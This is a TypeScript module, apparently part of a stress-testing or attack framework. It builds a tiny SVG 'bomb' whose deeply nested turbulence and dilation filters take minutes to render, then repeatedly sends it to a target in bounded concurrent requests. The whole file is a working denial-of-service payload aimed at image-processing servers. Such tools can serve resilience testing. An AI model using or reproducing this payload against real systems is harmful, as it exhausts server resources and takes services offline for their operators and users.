// SVG files of less than 1 kB whose nested filters take minutes to render: four at once, at most four per second. Their shape keeps them from
// being scaled down before that.
import { type Attack, turns } from '../attack';
import { classifyPath, float } from '../networks';
import { send } from '../requests';

const [width, height, depth] = [30_000, 28, 20];
const filter = '<feTurbulence baseFrequency=".3" numOctaves="60"/><feMorphology operator="dilate" radius="200"/>';
const bomb = `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}"><defs><filter id="f" x="0" y="0" width="1" height="1">${filter}</filter></defs>${'<g filter="url(#f)">'.repeat(depth)}<rect width="${width}" height="${height}"/>${'</g>'.repeat(depth)}</svg>`;

export const attack: Attack = (target, tally) => async (signal) => {
  let waiting = 0;
  for await (const _ of turns(4, signal)) {
    if (waiting >= 4) continue;
    waiting++;
    void send(target, tally, { path: classifyPath(float), body: bomb }).then(() => waiting--);
  }
};
